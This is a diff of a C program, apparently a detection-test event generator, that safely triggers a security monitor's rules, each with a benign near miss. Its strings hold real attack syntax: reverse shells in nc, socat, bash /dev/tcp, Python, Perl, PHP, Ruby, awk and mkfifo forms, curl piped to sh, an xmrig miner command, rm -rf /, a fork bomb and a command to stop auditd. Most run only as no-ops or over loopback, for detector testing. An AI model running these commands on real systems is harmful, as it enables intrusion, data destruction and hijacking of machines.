@@ -1,50 +1,80 @@
 // SPDX-License-Identifier: Apache-2.0
 /*
  * saker-eventgen: performs, safely, each behaviour the default rules detect,
- * so a user sees an alert for each on their own machine. Every action cleans
- * up after itself; files it creates are named saker-eventgen*. Network actions
- * use UDP connect to documentation addresses (192.0.2.0/24), which sends no
- * packet. Usage: saker-eventgen --list | --action NAME | --all
+ * so a user sees an alert for each on their own machine, and for each a near
+ * miss that must raise nothing.
+ *
+ * Safety: every action is local, bounded and cleans up after itself; files
+ * it creates are named saker-eventgen* (or live under /tmp/saker-eventgen)
+ * and hold one comment line; files that matter to the system
+ * (/etc/ld.so.preload, /etc/passwd, /proc/sys/...) are opened for writing and
+ * closed without a byte written. "Attack tools" (nc, xmrig, rm -rf /, a fork
+ * bomb) are this program itself, run under that name through a symlink in
+ * /run/saker-eventgen: it
+ * sees SAKER_EVENTGEN_NOOP in its environment and exits at once. Network
+ * actions run in a network namespace the action creates (loopback up, the
+ * documentation address 192.0.2.1 on it), so no packet leaves the machine,
+ * and none resolves a name.
+ *
+ * Usage: saker-eventgen --list | --action NAME | --near NAME | --all | --near-all
  */
-#include <errno.h>
-#include <stdbool.h>
-#include <fcntl.h>
-#include <linux/bpf.h>
-#include <netinet/in.h>
 #include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <linux/bpf.h>
+#include <net/if.h>
+#include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #define TMPDIR "/tmp/saker-eventgen"
+#define FAKEDIR "/run/saker-eventgen"
+#define NOOP_ENV "SAKER_EVENTGEN_NOOP"
+#define SELFDEL_ENV "SAKER_EVENTGEN_UNLINK_SELF"
+
+enum where { ANY, HOST, CONTAINER };
 
 struct action {
 	const char *name;
+	const char *technique; /* MITRE ATT&CK id */
+	enum where where;      /* where the expected rules fire */
 	const char *rules;     /* expected rules, ';' separated */
 	int (*run)(void);
+	int (*near)(void);     /* a near miss that must raise none of them */
 	const char *what;
 };
+
+static char self_exe[PATH_MAX];
 
 static int quiet_wait(pid_t pid)
 {
 	int st = 0;
 
+	if (pid < 0)
+		return -1;
 	waitpid(pid, &st, 0);
 	return WIFEXITED(st) ? WEXITSTATUS(st) : 128;
 }
 
-/* Run argv in a child whose own name (comm) is `comm` before it execs. */
-static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
+/* Run argv in a grandchild; the child in between is named comm_of_parent. */
+static int spawn_env(const char *comm_of_parent, char *const argv[], int keep_fd, char *const envp[])
 {
 	pid_t mid = fork();
 
@@ -59,7 +89,10 @@ static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
 		if (kid == 0) {
 			if (keep_fd >= 0)
 				fcntl(keep_fd, F_SETFD, 0);
-			execv(argv[0], argv);
+			if (envp)
+				execve(argv[0], argv, envp);
+			else
+				execv(argv[0], argv);
 			_exit(127);
 		}
 		_exit(quiet_wait(kid));
@@ -67,18 +100,9 @@ static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
 	return quiet_wait(mid);
 }
 
-static int write_file(const char *path, int flags, mode_t mode)
+static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
 {
-	int fd = open(path, flags | O_WRONLY | O_CREAT | O_CLOEXEC, mode);
-
-	if (fd < 0) {
-		fprintf(stderr, "  cannot create %s: %s\n", path, strerror(errno));
-		return -1;
-	}
-	if (write(fd, "saker-eventgen\n", 15) < 0)
-		perror("  write");
-	close(fd);
-	return 0;
+	return spawn_env(comm_of_parent, argv, keep_fd, NULL);
 }
 
 static void tmpdir(void)
@@ -86,31 +110,268 @@ static void tmpdir(void)
 	mkdir(TMPDIR, 0700);
 }
 
-/* UDP connect: no packet leaves the machine. */
-static int udp_connect_as(const char *comm, const char *ip, int port)
+extern char **environ;
+
+/* this process's environment plus one variable (for the no-op and
+ * self-deleting copies: the rest of the environment is kept) */
+static char **env_plus(const char *var)
+{
+	static char *env[256];
+	int n = 0;
+
+	env[n++] = (char *)var;
+	for (char **e = environ; e && *e && n < 255; e++)
+		env[n++] = *e;
+	env[n] = NULL;
+	return env;
+}
+
+/* Run this program under the name `name` with the given arguments: it exits
+ * at once (SAKER_EVENTGEN_NOOP), so only the command line is seen. */
+static int fake_as(const char *comm_of_parent, const char *name, const char *const args[])
+{
+	char path[256], *argv[16];
+	char **envp = env_plus(NOOP_ENV "=1");
+	int n = 0, rc;
+
+	/* not under /tmp: a program run from there raises a rule of its own */
+	mkdir(FAKEDIR, 0700);
+	snprintf(path, sizeof(path), FAKEDIR "/%s", name);
+	unlink(path);
+	if (symlink(self_exe, path))
+		return -1;
+	argv[n++] = path;
+	for (; args && *args && n < 15; args++)
+		argv[n++] = (char *)*args;
+	argv[n] = NULL;
+	rc = spawn_env(comm_of_parent, argv, -1, envp);
+	unlink(path);
+	rmdir(FAKEDIR);
+	return rc;
+}
+
+#define FAKE(name, ...) fake_as(NULL, name, (const char *const[]){ __VA_ARGS__, NULL })
+
+static int sh(const char *cmd)
+{
+	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)cmd, NULL };
+
+	return spawn(NULL, argv, -1);
+}
+
+static int write_file(const char *path, int flags, mode_t mode)
+{
+	static const char line[] = "# saker-eventgen test file, removed at once\n";
+	int fd = open(path, flags | O_WRONLY | O_CREAT | O_CLOEXEC, mode);
+
+	if (fd < 0) {
+		fprintf(stderr, "  cannot create %s: %s\n", path, strerror(errno));
+		return -1;
+	}
+	if (write(fd, line, sizeof(line) - 1) < 0)
+		perror("  write");
+	close(fd);
+	return 0;
+}
+
+static int create_and_remove(const char *path)
+{
+	int rc = write_file(path, O_TRUNC, 0644);
+
+	unlink(path);
+	return rc;
+}
+
+/* Open for writing and close without writing (creating it only if absent,
+ * and then removing it): the open is the behaviour, nothing changes. */
+static int touch_for_write(const char *path)
+{
+	bool existed = access(path, F_OK) == 0;
+	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | (existed ? 0 : O_CREAT), 0644);
+
+	if (fd < 0)
+		return -1;
+	close(fd);
+	if (!existed)
+		unlink(path);
+	return 0;
+}
+
+static int read_path(const char *path)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+
+	if (fd < 0)
+		return -1;
+	close(fd);
+	return 0;
+}
+
+/* Create path (and missing parents, removed after), write, read, remove. */
+static int with_file(const char *path, bool read_it)
+{
+	char dirs[8][256];
+	int ndirs = 0, rc;
+	char buf[256];
+
+	snprintf(buf, sizeof(buf), "%s", path);
+	for (char *p = buf + 1; *p; p++) {
+		if (*p != '/')
+			continue;
+		*p = 0;
+		if (access(buf, F_OK) && !mkdir(buf, 0700) && ndirs < 8)
+			snprintf(dirs[ndirs++], sizeof(dirs[0]), "%s", buf);
+		*p = '/';
+	}
+	rc = write_file(path, O_TRUNC, 0600);
+	if (rc == 0 && read_it)
+		rc = read_path(path);
+	unlink(path);
+	while (ndirs > 0)
+		rmdir(dirs[--ndirs]);
+	return rc;
+}
+
+/* A child in a new network namespace: loopback up, 192.0.2.1 on it. */
+static int in_netns(int (*fn)(void *), void *arg)
 {
 	pid_t pid = fork();
 
 	if (pid == 0) {
-		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
-		int s = socket(AF_INET, SOCK_DGRAM, 0);
+		struct ifreq ifr;
+		struct sockaddr_in *a = (struct sockaddr_in *)&ifr.ifr_addr;
+		int s;
 
-		if (comm)
-			prctl(PR_SET_NAME, comm, 0, 0, 0);
-		inet_pton(AF_INET, ip, &a.sin_addr);
-		if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)))
-			_exit(1);
+		if (unshare(CLONE_NEWNET))
+			_exit(2);
+		s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+		memset(&ifr, 0, sizeof(ifr));
+		snprintf(ifr.ifr_name, IFNAMSIZ, "lo");
+		if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr))
+			_exit(3);
+		ifr.ifr_flags |= IFF_UP | IFF_RUNNING;
+		if (ioctl(s, SIOCSIFFLAGS, &ifr))
+			_exit(4);
+		memset(&ifr, 0, sizeof(ifr));
+		snprintf(ifr.ifr_name, IFNAMSIZ, "lo:1");
+		a->sin_family = AF_INET;
+		inet_pton(AF_INET, "192.0.2.1", &a->sin_addr);
+		if (ioctl(s, SIOCSIFADDR, &ifr))
+			_exit(5);
 		close(s);
-		_exit(0);
+		_exit(fn(arg) ? 1 : 0);
 	}
 	return quiet_wait(pid);
 }
 
-/* ------------------------------------------------------------- actions */
+/* A child with a private mount namespace and a tmpfs on dir: whatever it
+ * writes there disappears with it, without an unlink. */
+static int in_private_tmpfs(const char *dir, int (*fn)(void))
+{
+	bool made = access(dir, F_OK) != 0;
+	pid_t pid;
+	int rc;
+
+	if (made && mkdir(dir, 0755))
+		return -1;
+	pid = fork();
+	if (pid == 0) {
+		if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
+		    mount("saker-eventgen", dir, "tmpfs", 0, "size=1m"))
+			_exit(2);
+		_exit(fn() ? 1 : 0);
+	}
+	rc = quiet_wait(pid);
+	if (made)
+		rmdir(dir);
+	return rc;
+}
+
+struct conn {
+	const char *comm, *ip;
+	int port, type;
+};
+
+static int connect_as(void *arg)
+{
+	const struct conn *c = arg;
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(c->port) };
+	int srv = -1, s;
+
+	inet_pton(AF_INET, c->ip, &a.sin_addr);
+	if (c->type == SOCK_STREAM) { /* a listener, so the connect completes locally */
+		srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof(int));
+		if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
+			return -1;
+	}
+	if (c->comm)
+		prctl(PR_SET_NAME, c->comm, 0, 0, 0);
+	s = socket(AF_INET, c->type | SOCK_CLOEXEC, 0);
+	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)))
+		return -1;
+	close(s);
+	if (srv >= 0)
+		close(srv);
+	return 0;
+}
+
+static int net_connect(const char *comm, const char *ip, int port, int type)
+{
+	struct conn c = { comm, ip, port, type };
+
+	return in_netns(connect_as, &c);
+}
+
+/* A loopback TCP listener; returns its fd, the port in *port. */
+static int loopback_listener(int *port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET };
+	socklen_t len = sizeof(a);
+	int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 4) ||
+	    getsockname(srv, (struct sockaddr *)&a, &len)) {
+		if (srv >= 0)
+			close(srv);
+		return -1;
+	}
+	*port = ntohs(a.sin_port);
+	return srv;
+}
+
+/* A child that waits to be killed; for ptrace and /proc/<pid> actions. */
+static pid_t sleeper(void)
+{
+	pid_t kid = fork();
+
+	if (kid == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
+		pause();
+		_exit(0);
+	}
+	return kid;
+}
+
+static void reap(pid_t kid)
+{
+	kill(kid, SIGKILL);
+	waitpid(kid, NULL, 0);
+}
+
+/* ------------------------------------------------------------- execution */
 
 static int a_shell_from_server(void)
 {
 	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"true", NULL };
+
+	return spawn("nginx", argv, -1);
+}
+
+static int n_shell_from_server(void)
+{
+	char *argv[] = { (char *)"/bin/true", NULL };
 
 	return spawn("nginx", argv, -1);
 }
@@ -122,16 +383,24 @@ static int a_db_spawn(void)
 	return spawn("mysqld", argv, -1);
 }
 
+static int n_db_spawn(void)
+{
+	char *argv[] = { (char *)"/bin/true", NULL };
+
+	return spawn("mysqldump", argv, -1);
+}
+
 static int a_memfd_exec(void)
 {
 	pid_t pid = fork();
 
 	if (pid == 0) {
-		int src = open("/bin/true", O_RDONLY | O_CLOEXEC);
+		int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
 		int mfd = syscall(SYS_memfd_create, "saker-eventgen", 0);
 		char buf[65536];
 		ssize_t n;
-		char *argv[] = { (char *)"saker-eventgen-memfd", NULL }, *envp[] = { NULL };
+		char *argv[] = { (char *)"saker-eventgen-memfd", NULL };
+		char **envp = env_plus(NOOP_ENV "=1");
 
 		if (src < 0 || mfd < 0)
 			_exit(1);
@@ -144,50 +413,96 @@ static int a_memfd_exec(void)
 	return quiet_wait(pid);
 }
 
-static int a_devshm_exec(void)
+static int n_plain_exec(void)
 {
-	const char *path = "/dev/shm/saker-eventgen-true";
-	char *argv[] = { (char *)path, NULL };
-	int rc;
+	char *argv[] = { (char *)"/bin/true", NULL };
 
-	if (spawn(NULL, (char *[]){ (char *)"/bin/cp", (char *)"/bin/true", (char *)path, NULL }, -1))
+	return spawn(NULL, argv, -1);
+}
+
+/* copy this program to path and run it there (as a no-op) */
+static int copy_self_and_run(const char *path, const char *cwd)
+{
+	int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), dst, rc;
+	char buf[65536];
+	ssize_t n;
+	char *argv[] = { (char *)path, NULL };
+	char **envp = env_plus(NOOP_ENV "=1");
+	pid_t pid;
+
+	unlink(path);
+	dst = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
+	if (src < 0 || dst < 0) {
+		if (src >= 0)
+			close(src);
 		return -1;
-	chmod(path, 0755);
-	rc = spawn(NULL, argv, -1);
+	}
+	while ((n = read(src, buf, sizeof(buf))) > 0)
+		if (write(dst, buf, n) != n)
+			break;
+	close(src);
+	close(dst);
+	pid = fork();
+	if (pid == 0) {
+		if (cwd && chdir(cwd))
+			_exit(1);
+		execve(path, argv, envp);
+		_exit(127);
+	}
+	rc = quiet_wait(pid);
 	unlink(path);
 	return rc;
 }
 
-static int a_netcat_exec(void)
+static int a_devshm_exec(void) { return copy_self_and_run("/dev/shm/saker-eventgen-exec", NULL); }
+static int n_devshm_exec(void)
 {
-	const char *nc = TMPDIR "/nc";
-	char *argv[] = { (char *)nc, (char *)"-e", (char *)"/bin/sh", (char *)"192.0.2.1", (char *)"4444", NULL };
+	char *argv[] = { (char *)"/bin/true", NULL };
+	pid_t pid = fork();
+
+	if (pid == 0) { /* an ordinary program, run with /tmp as working directory */
+		if (chdir("/tmp"))
+			_exit(1);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	return quiet_wait(pid);
+}
+
+static int a_tmp_exec(void)
+{
+	tmpdir();
+	return copy_self_and_run(TMPDIR "/dropped", NULL);
+}
+
+static int a_new_binary_exec(void)
+{
+	const char *dir = "/var/cache/saker-eventgen";
 	int rc;
 
-	tmpdir();
-	unlink(nc);
-	if (symlink("/bin/true", nc))
-		return -1;
-	rc = spawn(NULL, argv, -1);
-	unlink(nc);
+	mkdir(dir, 0700);
+	rc = copy_self_and_run("/var/cache/saker-eventgen/dropped", NULL);
+	rmdir(dir);
 	return rc;
 }
 
+static int a_netcat_exec(void) { return FAKE("nc", "-e", "/bin/sh", "127.0.0.1", "4444"); }
+static int n_netcat_exec(void) { return FAKE("nc", "-zv", "127.0.0.1", "22"); }
+static int a_socat_exec(void) { return FAKE("socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh,pty,stderr"); }
+static int n_socat_exec(void) { return FAKE("socat", "TCP-LISTEN:4444,bind=127.0.0.1", "STDOUT"); }
+
 static int a_reverse_shell(void)
 {
-	struct sockaddr_in a = { .sin_family = AF_INET };
-	socklen_t len = sizeof(a);
-	int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), cli, acc, rc;
+	int port, srv = loopback_listener(&port), cli, rc;
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
 	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"exec 0<&3 1>&3; true", NULL };
 
-	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1) ||
-	    getsockname(srv, (struct sockaddr *)&a, &len))
+	if (srv < 0)
 		return -1;
+	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
 	cli = socket(AF_INET, SOCK_STREAM, 0);
 	if (cli < 0 || connect(cli, (struct sockaddr *)&a, sizeof(a)))
 		return -1;
-	acc = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
 	if (cli != 3) { /* the shell expects the socket as fd 3 */
 		if (dup2(cli, 3) < 0)
 			return -1;
@@ -195,20 +510,204 @@ static int a_reverse_shell(void)
 	}
 	rc = spawn(NULL, argv, 3);
 	close(3);
-	close(acc);
 	close(srv);
 	return rc;
 }
 
-static int a_read_shadow(void)
+static int n_reverse_shell(void)
 {
-	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
+	int p[2], rc;
+	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"exec 0<&3; true", NULL };
 
-	if (fd < 0)
+	if (pipe(p))
 		return -1;
-	close(fd);
-	return 0;
+	if (p[0] != 3) {
+		dup2(p[0], 3);
+		close(p[0]);
+	}
+	close(p[1]);
+	rc = spawn(NULL, argv, 3);
+	close(3);
+	return rc;
 }
+
+static int a_bash_dev_tcp(void)
+{
+	int port, srv = loopback_listener(&port), rc;
+	char cmd[128];
+	char *argv[] = { (char *)"/bin/bash", (char *)"-c", cmd, NULL };
+
+	if (srv < 0)
+		return -1;
+	snprintf(cmd, sizeof(cmd), "exec 1>/dev/tcp/127.0.0.1/%d 0>&1; true", port);
+	rc = spawn(NULL, argv, -1);
+	close(srv);
+	return rc;
+}
+
+static int n_bash_dev_tcp(void)
+{
+	char *argv[] = { (char *)"/bin/bash", (char *)"-c", (char *)"exec 1>/dev/null 0</dev/null; true", NULL };
+
+	return spawn(NULL, argv, -1);
+}
+
+static int a_python_reverse_shell(void)
+{
+	int port, srv = loopback_listener(&port), rc;
+	char code[256];
+	char *argv[] = { (char *)"/usr/bin/python3", (char *)"-c", code, NULL };
+
+	if (srv < 0)
+		return -1;
+	snprintf(code, sizeof(code),
+		 "import socket,os;s=socket.socket();s.connect(('127.0.0.1',%d));"
+		 "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)", port);
+	rc = spawn(NULL, argv, -1);
+	close(srv);
+	return rc;
+}
+
+static int n_python_reverse_shell(void)
+{
+	char *argv[] = { (char *)"/usr/bin/python3", (char *)"-c", (char *)"import socket;socket.gethostname()", NULL };
+
+	return spawn(NULL, argv, -1);
+}
+
+static int a_awk_reverse_shell(void)
+{
+	return FAKE("gawk", "BEGIN{s=\"/inet/tcp/0/127.0.0.1/4444\";while(1){s|&getline c;c|getline;close(c)}}");
+}
+static int n_awk_reverse_shell(void) { return FAKE("gawk", "BEGIN{print \"tcp\"}"); }
+static int a_perl_reverse_shell(void)
+{
+	return FAKE("perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");");
+}
+static int n_perl_reverse_shell(void) { return FAKE("perl", "-e", "print \"hello\\n\""); }
+static int a_php_reverse_shell(void)
+{
+	return FAKE("php", "-r", "$s=fsockopen(\"127.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");");
+}
+static int n_php_reverse_shell(void) { return FAKE("php", "-r", "echo 'hello';"); }
+static int a_ruby_reverse_shell(void)
+{
+	return FAKE("ruby", "-rsocket", "-e", "c=TCPSocket.new(\"127.0.0.1\",4444);exec(\"/bin/sh -i\",[:in,:out,:err]=>[c,c,c])");
+}
+static int n_ruby_reverse_shell(void) { return FAKE("ruby", "-e", "puts 1"); }
+
+/* `true ||` keeps the shell from running the rest: only the command line is seen */
+static int a_mkfifo_reverse_shell(void)
+{
+	return sh("true || (rm -f " TMPDIR "/f; mkfifo " TMPDIR "/f; cat " TMPDIR "/f | sh -i 2>&1 | nc 127.0.0.1 4444 >" TMPDIR "/f)");
+}
+static int n_mkfifo_reverse_shell(void) { return sh("true || mkfifo " TMPDIR "/f"); }
+static int a_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 4444 | /bin/sh | telnet 127.0.0.1 4445"); }
+static int n_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 25"); }
+
+static int a_curl_pipe_sh(void)
+{
+	int rc;
+
+	mkdir(FAKEDIR, 0700);
+	unlink(FAKEDIR "/curl");
+	if (symlink(self_exe, FAKEDIR "/curl"))
+		return -1;
+	rc = sh(NOOP_ENV "=1 " FAKEDIR "/curl -fsSL http://127.0.0.1:9/install.sh | sh");
+	unlink(FAKEDIR "/curl");
+	rmdir(FAKEDIR);
+	return rc;
+}
+
+static int n_curl_pipe_sh(void)
+{
+	int rc;
+
+	mkdir(FAKEDIR, 0700);
+	unlink(FAKEDIR "/curl");
+	if (symlink(self_exe, FAKEDIR "/curl"))
+		return -1;
+	rc = sh(NOOP_ENV "=1 " FAKEDIR "/curl -fsSL -o /dev/null http://127.0.0.1:9/x | cat");
+	unlink(FAKEDIR "/curl");
+	rmdir(FAKEDIR);
+	return rc;
+}
+
+/* ------------------------------------------------------------- impact and miners */
+
+static int a_miner_cmdline(void) { return FAKE("xmrig", "-o", "pool.supportxmr.com:443", "--tls"); }
+static int n_miner_cmdline(void) { return FAKE("wget", "-q", "https://example.org/pool/index.html"); }
+static int a_stratum(void) { return FAKE("worker", "--url", "stratum+tcp://pool.invalid:3333"); }
+static int n_stratum(void) { return FAKE("worker", "--url", "https://pool.invalid/"); }
+static int a_wipe(void) { return FAKE("rm", "-rf", "--no-preserve-root", "/"); }
+static int n_wipe(void) { return FAKE("rm", "-rf", TMPDIR "/build"); }
+static int a_fork_bomb(void) { return FAKE("bash", "-c", ":(){ :|:& };:"); }
+static int n_fork_bomb(void) { return FAKE("bash", "-c", "echo : | cat"); }
+
+static int a_ransom_rename(void)
+{
+	int rc;
+
+	tmpdir();
+	write_file(TMPDIR "/report.txt", O_TRUNC, 0600);
+	rc = rename(TMPDIR "/report.txt", TMPDIR "/report.txt.locked");
+	unlink(TMPDIR "/report.txt.locked");
+	unlink(TMPDIR "/report.txt");
+	return rc;
+}
+
+static int n_ransom_rename(void)
+{
+	int rc;
+
+	tmpdir();
+	write_file(TMPDIR "/report.txt", O_TRUNC, 0600);
+	rc = rename(TMPDIR "/report.txt", TMPDIR "/report.txt.bak");
+	unlink(TMPDIR "/report.txt.bak");
+	return rc;
+}
+
+/* ------------------------------------------------------------- defense evasion (commands) */
+
+static int a_disable_security(void) { return FAKE("systemctl", "stop", "auditd"); }
+static int n_disable_security(void) { return FAKE("systemctl", "status", "auditd"); }
+
+static int a_timestomp(void)
+{
+	char *argv[] = { (char *)"/usr/bin/touch", (char *)"-d", (char *)"2001-01-01 00:00:00", (char *)TMPDIR "/ts", NULL };
+	int rc;
+
+	tmpdir();
+	rc = spawn(NULL, argv, -1);
+	unlink(TMPDIR "/ts");
+	return rc;
+}
+
+static int n_timestomp(void)
+{
+	char *argv[] = { (char *)"/usr/bin/touch", (char *)TMPDIR "/ts", NULL };
+	int rc;
+
+	tmpdir();
+	rc = spawn(NULL, argv, -1);
+	unlink(TMPDIR "/ts");
+	return rc;
+}
+
+static int a_setcap(void) { return FAKE("setcap", "cap_setuid+ep", TMPDIR "/python3"); }
+static int n_setcap(void) { return FAKE("getcap", "/usr/bin/ping"); }
+static int a_dns_tunnel(void) { return FAKE("iodine", "-f", "127.0.0.1", "t.example.invalid"); }
+static int n_dns_tunnel(void) { return FAKE("dig", "example.invalid"); }
+static int a_at_job(void) { return FAKE("at", "now", "+", "1", "minute"); }
+static int n_at_job(void) { return FAKE("at", "-l"); }
+static int a_new_user(void) { return FAKE("useradd", "-m", "saker-eventgen-user"); }
+static int n_new_user(void) { return FAKE("id", "saker-eventgen-user"); }
+static int a_user_mgmt(void) { return FAKE("passwd", "-S", "root"); }
+static int n_user_mgmt(void) { return FAKE("getent", "passwd", "root"); }
+static int a_container_scan(void) { return FAKE("nmap", "-sT", "-p", "1-1024", "127.0.0.1"); }
+static int n_container_scan(void) { return FAKE("ping", "-c", "1", "127.0.0.1"); }
+static int a_container_pkg(void) { return FAKE("apt-get", "install", "-y", "nmap"); }
+static int n_container_pkg(void) { return FAKE("apt-cache", "policy", "nmap"); }
 
 static int a_search_keys(void)
 {
@@ -218,33 +717,130 @@ static int a_search_keys(void)
 	return 0;
 }
 
-static int a_read_ssh(void)
+static int n_search_keys(void)
 {
-	int fd;
+	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)"*.c", NULL };
 
-	tmpdir();
-	mkdir(TMPDIR "/.ssh", 0700);
-	write_file(TMPDIR "/.ssh/config", O_TRUNC, 0600);
-	fd = open(TMPDIR "/.ssh/config", O_RDONLY | O_CLOEXEC);
-	if (fd >= 0)
-		close(fd);
-	unlink(TMPDIR "/.ssh/config");
-	rmdir(TMPDIR "/.ssh");
-	return fd >= 0 ? 0 : -1;
+	spawn(NULL, argv, -1);
+	return 0;
 }
 
-static int create_and_remove(const char *path)
-{
-	int rc = write_file(path, O_TRUNC, 0644);
+/* ------------------------------------------------------------- credential access (files) */
 
-	unlink(path);
+static int a_read_shadow(void) { return read_path("/etc/shadow"); }
+static int n_read_shadow(void) { return read_path("/etc/passwd"); }
+static int a_read_ssh(void) { return with_file(TMPDIR "/.ssh/config", true); }
+static int n_read_ssh(void) { return with_file(TMPDIR "/.ssh/known_hosts", true); }
+static int a_read_private_key(void) { return with_file(TMPDIR "/backup/id_ed25519", true); }
+static int n_read_private_key(void) { return with_file(TMPDIR "/backup/id_ed25519.pub.txt", true); }
+static int a_cloud_creds(void) { return with_file(TMPDIR "/.aws/credentials", true); }
+static int n_cloud_creds(void) { return with_file(TMPDIR "/.aws/notes.txt", true); }
+static int a_sa_token(void) { return with_file("/run/secrets/kubernetes.io/serviceaccount/token", true); }
+static int n_sa_token(void) { return with_file("/run/secrets/kubernetes.io/serviceaccount/namespace", true); }
+
+static int a_proc_environ(void)
+{
+	pid_t kid = sleeper();
+	char p[64];
+	int rc;
+
+	snprintf(p, sizeof(p), "/proc/%d/environ", kid);
+	rc = read_path(p);
+	reap(kid);
 	return rc;
 }
 
+static int n_proc_environ(void) { return read_path("/proc/self/environ"); }
+
+static int a_symlink_sensitive(void)
+{
+	int rc;
+
+	tmpdir();
+	unlink(TMPDIR "/shadow-link");
+	rc = symlink("/etc/shadow", TMPDIR "/shadow-link");
+	unlink(TMPDIR "/shadow-link");
+	return rc;
+}
+
+static int n_symlink_sensitive(void)
+{
+	int rc;
+
+	tmpdir();
+	unlink(TMPDIR "/passwd-link");
+	rc = symlink("/etc/passwd", TMPDIR "/passwd-link");
+	unlink(TMPDIR "/passwd-link");
+	return rc;
+}
+
+static int a_hardlink_sensitive(void)
+{
+	const char *p = "/etc/saker-eventgen-hardlink";
+	int rc = link("/etc/shadow", p);
+
+	unlink(p);
+	return rc;
+}
+
+static int n_hardlink_sensitive(void)
+{
+	int rc;
+
+	tmpdir();
+	write_file(TMPDIR "/a", O_TRUNC, 0600);
+	rc = link(TMPDIR "/a", TMPDIR "/b");
+	unlink(TMPDIR "/b");
+	unlink(TMPDIR "/a");
+	return rc;
+}
+
+/* process memory: /proc/<child>/mem, opened and closed; process_vm_readv */
+static int proc_mem(int flags)
+{
+	pid_t kid = sleeper();
+	char p[64];
+	int fd;
+
+	snprintf(p, sizeof(p), "/proc/%d/mem", kid);
+	fd = open(p, flags | O_CLOEXEC);
+	if (fd >= 0)
+		close(fd);
+	if (flags == O_RDONLY) {
+		char buf[16];
+		struct iovec l = { buf, sizeof(buf) }, r = { (void *)&self_exe, sizeof(buf) };
+
+		syscall(SYS_process_vm_readv, kid, &l, 1, &r, 1, 0);
+	}
+	reap(kid);
+	return fd >= 0 ? 0 : -1;
+}
+
+static int a_proc_mem_write(void) { return proc_mem(O_WRONLY); }
+static int a_proc_mem_read(void) { return proc_mem(O_RDONLY); }
+
+static int n_proc_mem(void)
+{
+	pid_t kid = sleeper();
+	char p[64];
+	int rc;
+
+	snprintf(p, sizeof(p), "/proc/%d/status", kid);
+	rc = read_path(p);
+	reap(kid);
+	return rc;
+}
+
+/* ------------------------------------------------------------- persistence (files) */
+
 static int a_write_etc(void) { return create_and_remove("/etc/saker-eventgen-test"); }
+static int n_write_etc(void) { return read_path("/etc/hostname"); }
 static int a_write_bin(void) { return create_and_remove("/usr/local/bin/saker-eventgen-test"); }
+static int n_write_bin(void) { return read_path("/bin/sh"); }
 static int a_write_root(void) { return create_and_remove("/saker-eventgen-test"); }
+static int n_write_root(void) { tmpdir(); return create_and_remove(TMPDIR "/root-near-miss"); }
 static int a_dev_file(void) { return create_and_remove("/dev/saker-eventgen-test"); }
+static int n_dev_file(void) { return touch_for_write("/dev/null"); }
 
 static int a_pkg_db(void)
 {
@@ -252,6 +848,8 @@ static int a_pkg_db(void)
 		return -1;
 	return create_and_remove("/var/lib/dpkg/saker-eventgen-test");
 }
+
+static int n_pkg_db(void) { return read_path("/var/lib/dpkg/status"); }
 
 static int a_mkdir_bin(void)
 {
@@ -261,52 +859,76 @@ static int a_mkdir_bin(void)
 	return rc;
 }
 
-static int a_cron(void)
